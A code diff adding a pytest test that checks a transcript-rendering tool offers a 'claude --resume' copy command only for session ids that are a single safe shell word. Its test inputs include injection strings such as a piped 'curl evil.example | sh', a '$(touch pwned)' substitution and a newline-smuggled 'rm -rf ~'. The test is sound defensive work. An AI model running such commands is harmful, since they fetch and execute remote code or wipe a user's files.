@@ -163,3 +163,28 @@ def test_each_reply_shows_the_context_its_request_sent() -> None:
         n = sent[uid]
         assert figure == (str(n) if n < 1000 else f"{n / 1000:.1f}k".replace(".0k", "k")), uid
     assert max(sent.values()) >= 60_000 and any(v.endswith("k") for v in shown.values())
+
+
+@pytest.mark.parametrize(
+    ("session_id", "offered"),
+    [
+        ("0d3a8e6f-290f-4105-a327-a2496e5e2a83", True),
+        ("x; curl evil.example | sh", False),
+        ("$(touch pwned)", False),
+        ("a\nrm -rf ~", False),
+        ("-rf", False),
+    ],
+)
+def test_a_resume_command_is_offered_only_for_an_id_a_shell_takes_as_one_word(
+    tmp_path: Path, session_id: str, offered: bool
+) -> None:
+    line = {
+        "type": "user", "uuid": "u1", "parentUuid": None, "sessionId": session_id, "cwd": "/w",
+        "version": "2.1.0", "timestamp": "2026-01-01T10:00:00Z", "message": {"role": "user", "content": "hi"},
+    }  # fmt: skip
+    path = tmp_path / "s.jsonl"
+    path.write_text(json.dumps(line) + "\n")
+    header = render_shell(load_any(path)).header_html
+    assert ("data-copy=" in header) is offered
+    if offered:
+        assert f'data-copy="claude --resume {session_id}"' in header
